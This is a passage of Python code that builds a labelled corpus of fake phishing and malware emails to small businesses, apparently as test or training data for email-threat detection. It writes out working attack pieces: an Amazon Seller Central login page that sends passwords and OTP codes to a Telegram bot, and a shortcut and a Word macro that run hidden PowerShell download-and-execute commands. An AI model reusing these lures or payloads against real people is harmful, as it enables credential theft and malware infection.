                         "Subject:To:From:Date:Message-ID:Cc:Date:From:Subject:Sender").replace("v=1;", "v=1; i=1;").replace("DKIM-Signature: v=1; i=1;", "DKIM-Signature: v=1;"),
             f"Received: from [192.168.178.{rint(stem + 'lan', 20, 60)}]\n\tby smtp.strato.de (RZmta 51.3.0 AUTH)\n\twith ESMTPSA id {alnum(stem + 'rz', 12)}\n"
             f"\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256 bits))\n\t(Client did not present a certificate);\n\t{fmt(sent)}",
             "X-RZG-AUTH: " + ":" + alnum(stem + "rzg", 60), "X-RZG-CLASS-ID: mo00"]
    s = custom("empfang@praxis-dr-wendt.de", f"mo4-p0{n}-ob.smtp.rzone.de", f"81.169.146.{160 + n}", trace,
               [("praxis-dr-wendt.de", "strato-dkim-0002")], f"<{uuid(stem + 'tb')}@praxis-dr-wendt.de>",
               after=["User-Agent: Mozilla Thunderbird", "Content-Language: de-DE"])
    token = "7913804425:AAF" + alnum(stem + "bot", 32)
    page = f"""<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Amazon Seller Central - Anmelden</title>
<style>body{{font-family:Arial,sans-serif;background:#fff;margin:0}}.box{{width:350px;margin:40px auto;border:1px solid #ddd;border-radius:8px;padding:20px 26px}}
h1{{font-weight:400;font-size:28px;margin:0 0 10px}}label{{font-weight:700;font-size:13px}}input{{width:100%;height:31px;margin:4px 0 14px;border:1px solid #a6a6a6;border-radius:3px;padding:3px 7px;box-sizing:border-box}}
button{{width:100%;background:#ffd814;border:1px solid #fcd200;border-radius:8px;height:31px;cursor:pointer}}.note{{font-size:12px;color:#565959}}</style></head>
<body><div style="text-align:center;margin-top:18px"><span style="font-size:26px;font-weight:700">amazon</span> <span style="font-size:16px">seller central</span></div>
<div class="box"><h1>Anmelden</h1><p class="note">Ihr Verkäuferkonto (Kaffeerösterei Hansen) wurde vorübergehend eingeschränkt. Bitte melden Sie sich an, um Ihre Identität zu bestätigen.</p>
<form id="f"><label>E-Mail-Adresse oder Mobiltelefonnummer</label><input id="e" type="email" value="info@roesterei-hansen.de">
<label>Passwort</label><input id="p" type="password"><label>Einmalpasswort (OTP) aus der Authenticator-App</label><input id="o" type="text" maxlength="6">
<button type="submit">Anmelden</button></form><p class="note">Mit der Anmeldung stimmen Sie den Nutzungsbedingungen von Amazon zu.</p></div>
<script>
document.getElementById('f').addEventListener('submit',function(ev){{ev.preventDefault();
var t=['{token[:16]}','{token[16:]}'].join('');var d='Amazon DE\\n'+document.getElementById('e').value+'\\n'+document.getElementById('p').value+'\\nOTP: '+document.getElementById('o').value;
fetch('https://api.telegram.org/bot'+t+'/sendMessage',{{method:'POST',headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{chat_id:'-100{digits(stem + 'chat', 10)}',text:d}})}})
.then(function(){{window.location.href='https://sellercentral.amazon.de/';}});}});
</script></body></html>
"""
    plain = ("Sehr geehrter Verkäufer,\n\n"
             "bei einer routinemäßigen Prüfung konnten wir die Angaben zu Ihrem Verkäuferkonto nicht bestätigen. "
             "Ihre Angebote auf Amazon.de wurden vorübergehend deaktiviert und Auszahlungen zurückgestellt.\n\n"
             "Bitte öffnen Sie das beigefügte Formular und bestätigen Sie Ihre Anmeldedaten innerhalb von 24 Stunden, "
             "um eine dauerhafte Sperrung zu vermeiden.\n\n"
             "Mit freundlichen Grüßen\nAmazon Seller Central – Team Verkäuferleistung\n")
    body = Multi("mixed", f"------------{alnum(stem + 'tbb', 24)}", [
        text(plain, "plain", "8bit", "UTF-8"),
        Leaf("text/html", page.encode("utf-8"), "base64", '; charset=UTF-8; name="Verkaeuferkonto_Bestaetigung.html"',
             'attachment; filename="Verkaeuferkonto_Bestaetigung.html"'),
    ])
    build(stem, "phishing",
          "German Amazon Seller Central 'seller account restricted' notice from a compromised doctor's-office Strato mailbox with an HTML "
          "attachment: a local Seller Central login form that sends email, password and OTP to a Telegram bot.",
          HANSEN, s, Auth(policy="none"), frm=addr("Amazon Seller Central", "empfang@praxis-dr-wendt.de"),
          subject="Ihr Verkäuferkonto wurde vorübergehend eingeschränkt", sent=sent, body=body,
          to="info@roesterei-hansen.de", lang="de-DE", has_attach=True)


def a33_amazon_es() -> None:
    stem = f"{PREFIX}-phish-amazon-vendedor-verificacion-es"
    sent = T("2025-02-25 17:20:06 +0100")
    s = postfix("srv1.amazon-vendedores-es.com", "194.87.31.140", "notificaciones@amazon-vendedores-es.com",
                "amazon-vendedores-es.com", sent, stem, selector="mail")
    url = "https://amazon-vendedores-es.com/verificacion/videollamada?merchant=A2K7XQ0L3M9VZT"
    markup = card(brand="amazon seller central", color="#232f3e", bg="#eaeded", lang="es",
                  heading="Verificación de identidad requerida", font="Arial, sans-serif",
                  paras=["Estimado vendedor:",
                         "Como parte de nuestras medidas de seguridad, Amazon necesita verificar la identidad del titular de la cuenta "
                         "<b>Casa Olivo</b> (ID de comerciante A2K7XQ0L3M9VZT).",
                         "Debe completar la verificación antes del <b>28 de febrero de 2025</b>. Si no se completa a tiempo, sus anuncios en "
                         "Amazon.es dejarán de estar disponibles y los desembolsos quedarán retenidos.",
                         "Inicie sesión para confirmar sus datos y programar su videollamada de verificación:"],
                  button=("Verificar ahora", url),
                  footer=["Gracias,", "Equipo de Verificación de Vendedores de Amazon", "Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxemburgo"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Spanish Amazon Seller Central 'identity verification required or listings are removed' notice to an olive-oil seller from the "
          "look-alike amazon-vendedores-es.com (own server), linking to a fake sign-in and 'video verification' booking page.",
          OLIVO, s, Auth(dmarc="none", policy="none"), frm=addr("Amazon Seller Central", "notificaciones@amazon-vendedores-es.com"),
          subject="Verificación de identidad requerida – su cuenta de vendedor", sent=sent, body=body, to="ventas@casaolivo.es", lang="es-ES")


def a34_complaint_gdrive() -> None:
    stem = f"{PREFIX}-phish-complaint-photos-gdrive"
    sent = T("2024-10-29 20:14:33 -0400")
    s = gmail("racheldunn.1987@gmail.com", sent, stem, MM)
    link = "https://drive.google.com/file/d/1qX8vKzT3mN0pLw7rYc5HfB2dJ9sGa4Eo/view?usp=sharing"
    plain = ("Hello,\n\n"
             "I received my order #1847 yesterday and honestly I'm really disappointed. Two of the Cedar & Smoke candles arrived "
             "cracked and wax leaked all over the other items in the box, including the gift set I ordered for my mom.\n\n"
             "I took photos of everything, the files were too big to attach so I uploaded them here:\n"
             f"{link}\n\n"
             "I would like a full refund or a replacement shipped this week. If I don't hear back I will have to open a dispute "
             "with my bank.\n\n"
             "Rachel Dunn\n")
    markup = simple_html(["Hello,",
                          "I received my order #1847 yesterday and honestly I&#39;m really disappointed. Two of the Cedar &amp; Smoke candles arrived cracked and wax leaked all over the other items in the box, including the gift set I ordered for my mom.",
                          f'I took photos of everything, the files were too big to attach so I uploaded them here:<br><a href="{link}">{link}</a>',
                          "I would like a full refund or a replacement shipped this week. If I don&#39;t hear back I will have to open a dispute with my bank.",
                          "Rachel Dunn"])
    body = alt(plain, markup, stem, "gmail")
    build(stem, "malware",
          "Fake customer complaint about cracked candles from Gmail with a Google Drive link to 'photos' that is a ZIP holding a JScript "
          "loader; no order #1847 exists.",
          MM, s, Auth(policy="none"), frm=addr("Rachel Dunn", "racheldunn.1987@gmail.com"),
          subject="Order #1847 arrived damaged - photos", sent=sent, body=body, order="gmail", to="hannah@mapleandmoss.co")


def a35_complaint_zip_lnk() -> None:
    stem = f"{PREFIX}-phish-complaint-zip-lnk"
    sent = T("2025-01-09 15:22:47 -0600")
    s = outlook("karen.whitlock72@outlook.com", sent, stem, consumer=True, region="NAM")
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w hidden -ep bypass -c \"$u='https://cdn-photoshare.b-cdn.net/img/4521';"
                             "iwr $u'.jpg' -OutFile $env:TEMP\\IMG_4521.jpg; Start-Process $env:TEMP\\IMG_4521.jpg;"
                             "iex (iwr $u'.ps1' -UseBasicParsing).Content\"")
    archive = files.zip_archive([("damaged_items_photos/IMG_4521.jpg.lnk", lnk),
                                 ("damaged_items_photos/IMG_4522.jpg", files.photo_jpeg(53))])
    paras = ["Hi,",
             "My order from your shop arrived today (the blue glaze serving bowl and two mugs) and the bowl is broken in three pieces "
             "and one of the mugs has a big chip on the rim. The box was not damaged so I think it was packed badly.",
             "I attached the photos. Please tell me how you want to handle this, I would prefer a refund.",
             "Thank you,<br>Karen Whitlock"]
    markup = outlook_html(paras)
    body = Multi("mixed", bnd("outlook_mixed", stem), [
        alt(to_plain(markup), markup, stem, "outlook"),
        attachment("application/x-zip-compressed", "damaged_items_photos.zip", archive),
    ])
    build(stem, "malware",
          "Fake damaged-order complaint to an Etsy ceramics shop from outlook.com with a ZIP of 'photos' containing a .jpg.lnk shortcut that "
          "runs a hidden PowerShell download-and-execute (plus one real JPEG as decoy).",
          WILD, s, Auth(policy="none"), frm=addr("Karen Whitlock", "karen.whitlock72@outlook.com"),
          subject="Broken bowl in my order", sent=sent, body=body, has_attach=True, to="nora@wildfernceramics.com")


def a36_food_poisoning_it() -> None:
    stem = f"{PREFIX}-phish-intossicazione-alimentare-dropbox"
    sent = T("2025-07-15 23:41:05 +0200")
    s = gmail("giulia.ferraro.bo@gmail.com", sent, stem, RINA)
    link = "https://www.dropbox.com/scl/fi/q3v8m2x0k7hz4nb1t9wpr/Referto_PS_e_foto.zip?rlkey=0d7kq2m9x4vb1z8y5n3c6hf2t&st=8m2qz0xw&dl=1"
    plain = ("Buonasera,\n\n"
             "sabato sera ho cenato nel vostro ristorante con mio marito (prenotazione a nome Ferraro, ore 20:30). Abbiamo preso "
             "le tagliatelle al ragù e il fritto misto. Durante la notte siamo stati malissimo entrambi e domenica mattina siamo "
             "finiti al pronto soccorso del Maggiore con una diagnosi di intossicazione alimentare.\n\n"
             "Qui trovate il referto del pronto soccorso e le foto dello scontrino e del piatto:\n"
             f"{link}\n\n"
             "Vi chiedo un riscontro entro 48 ore. In mancanza di una risposta procederò con una segnalazione all'AUSL e "
             "pubblicherò la nostra esperienza su Google e TripAdvisor.\n\n"
             "Giulia Ferraro\n")
    markup = simple_html([esc(p).replace("\n", "<br>").replace(esc(link), f'<a href="{link}">{esc(link)}</a>')
                          for p in plain.strip().split("\n\n")])
    body = alt(plain, markup, stem, "gmail")
    build(stem, "malware",
          "Italian food-poisoning complaint to a Bologna trattoria from Gmail, with a Dropbox direct-download link to a 'medical report "
          "and photos' archive (the hospitality infostealer lure) and a threat of health-authority reports and bad reviews.",
          RINA, s, Auth(policy="none"), frm=addr("Giulia Ferraro", "giulia.ferraro.bo@gmail.com"),
          subject="Intossicazione alimentare dopo la cena di sabato", sent=sent, body=body, order="gmail", to="info@trattoriadarina.it")


def a37_salon_iso() -> None:
    stem = f"{PREFIX}-phish-salon-complaint-iso"
    sent = T("2024-03-12 10:05:52 -0500")
    s = gmail("brittanyhale.atx@gmail.com", sent, stem, LUMEN)
    lnk = files.lnk_shortcut(r"C:\Windows\System32\rundll32.exe", "photos.dat,DllRegisterServer")
    iso = files.iso_image([("Photos_and_Doctors_Note.lnk", lnk), ("photos.dat", files.pe_stub())], "PHOTOS")
    plain = ("Hi,\n\n"
             "I had a balayage appointment with you last Thursday and I'm writing because my scalp has been burning ever since. "
             "I now have red blisters along my part line and my dermatologist says it is a chemical burn from the bleach being "
             "left on too long.\n\n"
             "I attached the photos and my doctor's note. I expect you to cover my medical bills ($480 so far) and refund the "
             "service. Please call me or reply by Friday.\n\n"
             "Brittany Hale\n")
    markup = simple_html([esc(p).replace("\n", "<br>") for p in plain.strip().split("\n\n")])
    body = Multi("mixed", bnd("gmail", stem + "mx"), [
        alt(plain, markup, stem, "gmail"),
        attachment("application/x-iso9660-image", "Photos_and_Doctors_Note.iso", iso),
    ])
    build(stem, "malware",
          "Fake chemical-burn complaint to a hair salon from Gmail with an ISO disc image holding a shortcut that runs a DLL payload "
          "via rundll32 (disc-image dropper).",
          LUMEN, s, Auth(policy="none"), frm=addr("Brittany Hale", "brittanyhale.atx@gmail.com"),
          subject="Chemical burn after my appointment - photos and doctor's note", sent=sent, body=body, order="gmail",
          to="bookings@studiolumensalon.com")


def a38_rfq_r2() -> None:
    stem = f"{PREFIX}-phish-rfq-r2-document-portal"
    sent = T("2025-09-09 10:48:22 +0400")
    s = outlook("purchase@alnoor-trading-llc.com", sent, stem, consumer=False, region="EUR", tenant="alnoortradingllc")
    url = "https://pub-3f9a61c2e04b4d7b8a5e2c91f7d0a6b3.r2.dev/RFQ-AlNoor-2025-0917.html#ventas@casaolivo.es"
    paras = ["Dear Sales Team,",
             "Good day. We are a food distributor based in Dubai supplying supermarkets across the GCC, and we are interested in your "
             "extra virgin olive oil (500 ml and 5 L tins).",
             "Kindly review our Request for Quotation with required quantities (2 x 40ft containers), packaging and labelling specifications:",
             f'<a href="{url}">RFQ-AlNoor-2025-0917.pdf</a> (secure document, 312 KB)',
             "Please send your best CIF Jebel Ali price and lead time at your earliest convenience.",
             "Best regards,"]
    sig = ("Faisal Rahman<br>Procurement Manager<br>Al Noor Trading LLC<br>Office 1204, Al Moosa Tower 2, Sheikh Zayed Road, Dubai, UAE<br>"
           "Tel: +971 4 332 7781")
    markup = outlook_html(paras, signature=sig)
    body = alt(to_plain(markup), markup, stem, "outlook")
    build(stem, "phishing",
          "Bulk-order RFQ to a Spanish olive-oil exporter from a compromised Dubai trading-company Microsoft 365 mailbox (passes); the "
          "'RFQ PDF' is an HTML page on Cloudflare R2 (r2.dev) imitating a document viewer that asks for the email password.",
          OLIVO, s, Auth(policy="none"), frm=addr("Faisal Rahman", "purchase@alnoor-trading-llc.com"),
          subject="RFQ: Extra Virgin Olive Oil - 2 x 40ft containers", sent=sent, body=body, to="ventas@casaolivo.es")


def a39_devis_gz_exe() -> None:
    stem = f"{PREFIX}-phish-demande-devis-gz-exe"
    sent = T("2024-11-05 09:33:48 +0100")
    s = outlook("sophie.marchand-boutique@hotmail.fr", sent, stem, consumer=True, region="EUR")
    gz = files.gzip_bytes("Bon_de_commande_BC-2411-078.exe", files.pe_stub())
    paras = ["Bonjour Madame,",
             "Je gère une boutique de décoration à Annecy et je souhaiterais référencer plusieurs articles de votre collection "
             "(bougies, vide-poches en céramique et linge de table) pour les fêtes de fin d'année.",
             "Vous trouverez ci-joint notre bon de commande avec les références et quantités. Pourriez-vous me confirmer la "
             "disponibilité et vos conditions pour les revendeurs ?",
             "Bien cordialement,<br>Sophie Marchand<br>Boutique Les Jolies Choses – Annecy"]
    markup = outlook_html(paras)
    body = Multi("mixed", bnd("outlook_mixed", stem), [
        alt(to_plain(markup), markup, stem, "outlook"),
        attachment("application/x-gzip", "Bon_de_commande_BC-2411-078.gz", gz),
    ])
    build(stem, "malware",
          "French reseller order request to a WooCommerce shop from hotmail.fr with a .gz 'purchase order' that contains a Windows "
          "executable.",
          CAM, s, Auth(policy="none"), frm=addr("Sophie Marchand", "sophie.marchand-boutique@hotmail.fr"),
          subject="Demande de devis – commande revendeur", sent=sent, body=body, has_attach=True,
          to="camille@ateliercamille.fr", lang="fr-FR")


def a41_lawyer_firebase() -> None:
    stem = f"{PREFIX}-phish-copyright-lawyer-firebase"
    sent = T("2025-03-27 11:18:40 -0400")
    s = gmail("h.clarke.ipcounsel@gmail.com", sent, stem, LUMEN)
    link = ("https://firebasestorage.googleapis.com/v0/b/evidence-docs-7a1c.appspot.com/o/Copyright_Evidence_Images.zip"
            "?alt=media&token=" + uuid(stem + "tok"))
    plain = ("Dear Sir or Madam,\n\n"
             "I am writing on behalf of my client, Northwind Visuals LLC, a commercial photography studio. We have identified "
             "that your website studiolumensalon.com and your Instagram page display at least six photographs owned by my "
             "client without a license, including on your \"Services\" and \"Bridal\" pages.\n\n"
             "This constitutes infringement under the Digital Millennium Copyright Act (17 U.S.C. § 512). The full list of "
             "images, original files with metadata and screenshots of your pages are available here:\n"
             f"{link}\n\n"
             "You are required to remove the images within 5 business days and contact us to discuss compensation. If we do "
             "not hear from you, my client intends to pursue statutory damages of up to $150,000 per work.\n\n"
             "Regards,\n\nHarrison Clarke\nIntellectual Property Counsel\nClarke & Whitmore LLP\n")
    markup = simple_html([esc(p).replace("\n", "<br>").replace(esc(link), f'<a href="{link}">Copyright_Evidence_Images.zip</a>')
                          for p in plain.strip().split("\n\n")])
    body = alt(plain, markup, stem, "gmail")
    build(stem, "malware",
          "Fake copyright lawyer (Gmail, invented law firm) threatens a salon over photos on its website and links 'evidence' as a ZIP on "
          "Firebase Storage, the 2024-25 infostealer lure aimed at small-business sites.",
          LUMEN, s, Auth(policy="none"), frm=addr("Harrison Clarke", "h.clarke.ipcounsel@gmail.com"),
          subject="Copyright Infringement Notice - Unauthorized Use of Images (studiolumensalon.com)", sent=sent, body=body,
          order="gmail", to="bookings@studiolumensalon.com")


def a42_avvocato_bitbucket() -> None:
    stem = f"{PREFIX}-phish-avvocato-copyright-bitbucket-it"
    sent = T("2025-12-02 10:07:15 +0100")
    s = outlook("studiolegale.ricci.avv@outlook.it", sent, stem, consumer=True, region="EUR")
    link = "https://bitbucket.org/rlx-docs/prove-2025/downloads/Prove_violazione_copyright_Bellini.zip"
    paras = ["Egregio Sig. Bellini,",
             "scrivo in qualità di legale della fotografa Elena Marini, titolare dei diritti sulle immagini utilizzate senza licenza "
             "nel Suo portfolio online (bellinistudio.it) e nei progetti pubblicati sul Suo profilo Behance.",
             "L'utilizzo non autorizzato costituisce violazione della Legge 22 aprile 1941, n. 633 sul diritto d'autore. "
             f'Può consultare l\'elenco completo delle opere e le prove raccolte al seguente link: <a href="{link}">Prove_violazione_copyright_Bellini.zip</a>',
             "La invito a rimuovere il materiale entro 7 giorni e a contattare lo scrivente studio per definire il risarcimento. "
             "In difetto, procederemo per le vie legali senza ulteriore avviso.",
             "Distinti saluti,<br>Avv. Lorenzo Ricci<br>Studio Legale Ricci – Milano"]
    markup = outlook_html(paras)
    body = alt(to_plain(markup), markup, stem, "outlook")
    build(stem, "malware",
          "Italian fake-lawyer copyright threat to a freelance designer from a free outlook.it address, with 'evidence' as a ZIP in a "
          "Bitbucket repository's downloads (payload hosting on a developer platform).",
          BELL, s, Auth(policy="none"), frm=addr("Avv. Lorenzo Ricci", "studiolegale.ricci.avv@outlook.it"),
          subject="Diffida – utilizzo non autorizzato di immagini protette", sent=sent, body=body,
          to="marco@bellinistudio.it", lang="it-IT")


def a43_dmca_contact_form() -> None:
    stem = f"{PREFIX}-phish-dmca-contact-form-wordpress"
    sent = T("2024-08-06 02:51:33 -0700")
    srv = "p3plzcpnl505123.prod.phx3.secureserver.net"
    trace = [dkim_header("littlefoxprints.com", "default", stem + "lf", sent,
                         "Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:\n\tReply-To:From:Subject:To:Date:Sender:Cc"),
             f"Received: from littlefox by {srv} with local (Exim 4.96.2)\n\t(envelope-from <wordpress@littlefoxprints.com>)\n"
             f"\tid 1sbJ{alnum(stem + 'ex', 2)}-{alnum(stem + 'ex2', 7)}-{alnum(stem + 'ex3', 2)}\n\tfor hello@littlefoxprints.com; {fmt(sent)}"]
    s = custom("wordpress@littlefoxprints.com", f"p3plsmtpout00{rint(stem, 1, 6)}.prod.phx3.secureserver.net",
               f"68.178.252.{rint(stem + 'ip', 100, 140)}", trace, [("littlefoxprints.com", "default")],
               f"<{alnum(stem + 'wpm', 43)}@littlefoxprints.com>",
               after=["X-Mailer: WPMailSMTP/Mailer/mail 4.1.0", "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
                      f"X-AntiAbuse: Primary Hostname - {srv}", "X-Get-Message-Sender-Via: " + srv + ": authenticated_id: littlefox/from_h"])
    link = "https://sites.google.com/view/mjensen-photo-legal/dmca-evidence"
    plain = ("From: Mark Jensen <mark.jensen.photolegal@gmail.com>\n"
             "Subject: DMCA Copyright Infringement Notice\n\n"
             "Message Body:\n"
             "Hello,\n\n"
             "This is a formal notice under the Digital Millennium Copyright Act. Images I created and hold the copyright to are "
             "being used on your website littlefoxprints.com and in your Etsy listings without my permission.\n\n"
             "You can download the list of the infringing images and my original files with EXIF data here:\n"
             f"{link}\n\n"
             "If the images are not removed within 72 hours I will file takedown requests with your hosting provider, Etsy and Google, "
             "and pursue damages.\n\n"
             "Mark Jensen\n\n"
             "--\n"
             "This e-mail was sent from a contact form on Little Fox Prints (https://littlefoxprints.com)\n")
    body = text(plain, "plain", "8bit", "UTF-8")
    build(stem, "malware",
          "Fake DMCA notice submitted through the print shop's own WordPress contact form, so it arrives from wordpress@littlefoxprints.com "
          "via its own host with passing SPF/DKIM; the 'evidence' link is a Google Sites page serving a malware download.",
          FOX, s, Auth(policy="none"), frm=addr("Little Fox Prints", "wordpress@littlefoxprints.com"),
          subject='Little Fox Prints "DMCA Copyright Infringement Notice"', sent=sent, body=body,
          to="hello@littlefoxprints.com", reply_to=addr("Mark Jensen", "mark.jensen.photolegal@gmail.com"))


def a45_godaddy_fr() -> None:
    stem = f"{PREFIX}-phish-godaddy-renouvellement-fr"
    sent = T("2025-08-19 08:02:11 +0200")
    s = postfix("mail.godaddy-domaines.fr", "45.89.127.56", "renouvellement@godaddy-domaines.fr", "godaddy-domaines.fr", sent, stem,
                selector="gd")
    url = "https://godaddy-domaines.fr/renouveler?domaine=ateliercamille.fr&c=FR&r=" + urlsafe(stem + "r", 18)
    markup = card(brand="GoDaddy", color="#111111", lang="fr", heading="Votre domaine expire dans 3 jours",
                  font="'gdsherpa', Helvetica, Arial, sans-serif",
                  paras=["Bonjour Camille,",
                         "Le renouvellement automatique de <b>ateliercamille.fr</b> a échoué : la carte enregistrée sur votre compte a expiré.",
                         "Si le domaine n'est pas renouvelé avant le <b>22 août 2025</b>, votre site, votre boutique WooCommerce et vos "
                         "adresses e-mail professionnelles cesseront de fonctionner, et le domaine pourra être enregistré par un tiers.",
                         "Montant du renouvellement (1 an) : <b>14,99 € TTC</b>"],
                  button=("Renouveler maintenant", url),
                  footer=["GoDaddy Operating Company, LLC. 2155 E. GoDaddy Way, Tempe, AZ 85284, États-Unis.",
                          "Vous recevez cet e-mail car vous êtes client GoDaddy."])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "French GoDaddy 'auto-renewal failed, domain expires in 3 days' notice to a WooCommerce shop from the look-alike "
          "godaddy-domaines.fr (own server), linking to a fake renewal checkout that steals the card.",
          CAM, s, Auth(dmarc="none", policy="none"), frm=addr("GoDaddy", "renouvellement@godaddy-domaines.fr"),
          subject="Action requise : ateliercamille.fr expire dans 3 jours", sent=sent, body=body,
          to="camille@ateliercamille.fr", lang="fr-FR")


def a46_namecheap_ssl() -> None:
    stem = f"{PREFIX}-phish-namecheap-ssl-expiry"
    sent = T("2025-12-10 14:09:27 +0000")
    s = mailgun("mg.namecheap-ssl-renew.com", "namecheap-ssl-renew.com", sent, stem)
    url = "https://namecheap-ssl-renew.com/myaccount/login/?ReturnUrl=%2fssl%2frenew%2f%3fdomain%3delnopalatx.com"
    markup = card(brand="Namecheap", color="#de3723", heading="Your SSL certificate expires in 2 days",
                  paras=["Hi luisgarza,",
                         "The PositiveSSL certificate for <b>elnopalatx.com</b> will expire on <b>December 12, 2025</b>. After expiration, "
                         "visitors will see a \"Your connection is not private\" warning and online ordering on your site will stop working.",
                         "Auto-renew could not be completed because your account balance is insufficient. Please log in and renew your "
                         "certificate to avoid downtime."],
                  button=("Renew SSL now", url),
                  footer=["Namecheap, Inc., 4600 East Washington Street, Suite 300, Phoenix, AZ 85034, USA",
                          "You're receiving this email because you have an active product with Namecheap."])
    body = alt(to_plain(markup), markup, stem, "mg")
    build(stem, "phishing",
          "Namecheap 'SSL certificate expires in 2 days, auto-renew failed' notice to a restaurant whose site is on Namecheap, from the "
          "look-alike namecheap-ssl-renew.com via Mailgun, linking to a fake Namecheap login.",
          NOPAL, s, Auth(dmarc="none", policy="none"), frm=addr("Namecheap", "support@namecheap-ssl-renew.com"),
          subject="[Action Required] SSL certificate for elnopalatx.com expires in 2 days", sent=sent, body=body,
          to="luis@elnopalatx.com")


def a47_squarespace_domains() -> None:
    stem = f"{PREFIX}-phish-squarespace-domains-migration"
    sent = T("2024-07-16 16:30:59 +0000")
    s = ses("squarespace-domainsupport.com", sent, stem, region="us-east-1",
            mailfrom=f"010001{hexs(stem, 10)}@mail.squarespace-domainsupport.com")
    url = "https://account.squarespace-domainsupport.com/login?continue=%2Fdomains%2Fpriyamakes.com%2Fclaim"
    markup = card(brand="SQUARESPACE", color="#000000", heading="Complete your domain migration",
                  font="Clarkson, Helvetica, Arial, sans-serif",
                  paras=["Hi Priya,",
                         "As you know, Google Domains has moved its domain registration business to Squarespace. Your domain "
                         "<b>priyamakes.com</b> has been transferred, but your Squarespace account has not been confirmed yet.",
                         "To keep your domain, website and Google Workspace email working, please sign in with the Google account you "
                         "used for Google Domains and confirm your billing details by <b>July 19, 2024</b>.",
                         "Unclaimed domains will be released at the end of their current registration period."],
                  button=("Confirm my domain", url),
                  footer=["Squarespace, Inc., 225 Varick Street, New York, NY 10014", "Squarespace Domains LLC"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "Squarespace Domains 'complete your Google Domains migration or lose priyamakes.com' lure to a YouTuber, from the look-alike "
          "squarespace-domainsupport.com via Amazon SES, linking to a fake sign-in that asks for the Google account.",
          PRIYA, s, Auth(dmarc="none", policy="none"), frm=addr("Squarespace Domains", "domains@squarespace-domainsupport.com"),
          subject="Action required: confirm your account to keep priyamakes.com", sent=sent, body=body, to="priya@priyamakes.com")


def a48_domain_registry_invoice() -> None:
    stem = f"{PREFIX}-phish-domain-registry-invoice"
    sent = T("2024-02-13 11:40:04 +0000")
    s = postfix("mta1.dnreg-services.com", "5.181.156.44", "billing@dnreg-services.com", "dnreg-services.com", sent, stem)
    pay = "https://dnreg-services.com/pay?ref=DRS-UK-2024-118734"
    invoice = files.pdf(["DOMAIN REGISTRY SERVICES", "Domain Name Expiration Notice", "",
                         "Domain: retrorelay.co.uk", "Reference: DRS-UK-2024-118734", "Attn: Tom Ashworth, Retro Relay", "",
                         "Your search engine submission for retrorelay.co.uk expires on 20 February 2024.",
                         "Failure to complete the renewal may make it difficult for customers to find you",
                         "online and may result in loss of online visibility and revenue.", "",
                         "Annual search engine submission (12 months) ......... GBP 289.00",
                         "Total due ............................................ GBP 289.00", "",
                         "Bank transfer: Domain Registry Services Ltd", "IBAN GB62 MIDL 4005 1571 4481 92   BIC MIDLGB22",
                         "Or pay by card online (button below).", "",
                         "This notice is not a bill. This is a solicitation. You are under no obligation to pay",
                         "the amount stated unless you accept this offer."],
                        link=(pay, (56, 470, 260, 506)), title="Domain Name Expiration Notice")
    plain = ("Domain Name Expiration Notice\n\n"
             "Domain: retrorelay.co.uk\nReference: DRS-UK-2024-118734\n\n"
             "Attn: Tom Ashworth\n\n"
             "The search engine submission for your domain retrorelay.co.uk expires on 20 February 2024. Please find your renewal "
             "notice attached. Failure to renew may result in loss of online visibility for Retro Relay.\n\n"
             f"Pay online: {pay}\n\n"
             "Domain Registry Services\nBilling Department\n")
    body = Multi("mixed", bnd("php", stem), [
        text(plain, "plain", "7bit", "us-ascii"),
        attachment("application/pdf", "Expiration_Notice_retrorelay.co.uk.pdf", invoice),
    ])
    build(stem, "phishing",
          "Domain-slamming invoice fraud to an eBay UK seller: a 'Domain Name Expiration Notice' PDF demanding GBP 289 for 'search engine "
          "submission' with IBAN and card payment link, from dnreg-services.com (own server, passes).",
          RETRO, s, Auth(dmarc="none", policy="none"), frm=addr("Domain Registry Services", "billing@dnreg-services.com"),
          subject="Domain Name Expiration Notice - retrorelay.co.uk", sent=sent, body=body, to="tom@retrorelay.co.uk")


def a49_upwork_docm() -> None:
    stem = f"{PREFIX}-phish-upwork-client-offplatform-docm"
    sent = T("2025-03-11 16:58:32 +0000")
    s = gmail("dmoreau.halcyoncoffee@gmail.com", sent, stem, BELL)
    macro = ('Attribute VB_Name = "ThisDocument"\n'
             "Sub AutoOpen()\n"
             "    Dim s As String, u As String\n"
             "    u = \"https://halcyon-brand-assets.com/fonts/update.ps1\"\n"
             "    s = \"powershell -w hidden -nop -c \" & Chr(34) & \"iex (New-Object Net.WebClient).DownloadString('\" & u & \"')\" & Chr(34)\n"
             "    CreateObject(\"WScript.Shell\").Run s, 0, False\n"
             "End Sub\n")
    doc = files.docx(["Halcyon Coffee Co. - Brand Guidelines 2025",
                      "This document uses embedded brand fonts. If the content is not displayed correctly, click Enable Editing and then Enable Content.",
                      "1. Logo usage  2. Colour palette  3. Typography  4. Packaging"], "Brand Guidelines", "David Moreau", macro=macro)
    plain = ("Hi Marco,\n\n"
             "It's David from Halcyon Coffee - we talked on Upwork yesterday about the rebrand for our three coffee shops. "
             "Honestly the Upwork fees on a project this size are crazy (almost 20% between both of us), so I'd prefer to work "
             "with you directly. I can pay 50% upfront by bank transfer once we agree on the scope.\n\n"
             "I attached our current brand guidelines so you can see what we have. It uses our custom fonts, so if it looks "
             "strange in Word just click Enable Content at the top.\n\n"
             "Could you send me a quote for logo refresh + packaging for 3 bag sizes by Friday?\n\n"
             "Thanks,\nDavid Moreau\nHalcyon Coffee Co.\n")
    markup = simple_html([esc(p).replace("\n", "<br>") for p in plain.strip().split("\n\n")])
    body = Multi("mixed", bnd("gmail", stem + "mx"), [
        alt(plain, markup, stem, "gmail"),
        attachment("application/vnd.ms-word.document.macroEnabled.12", "Halcyon_Brand_Guidelines_2025.docm", doc),
    ])
    build(stem, "malware",
          "Upwork 'client' moves a freelance designer off-platform to avoid fees and sends 'brand guidelines' as a macro-enabled .docm "
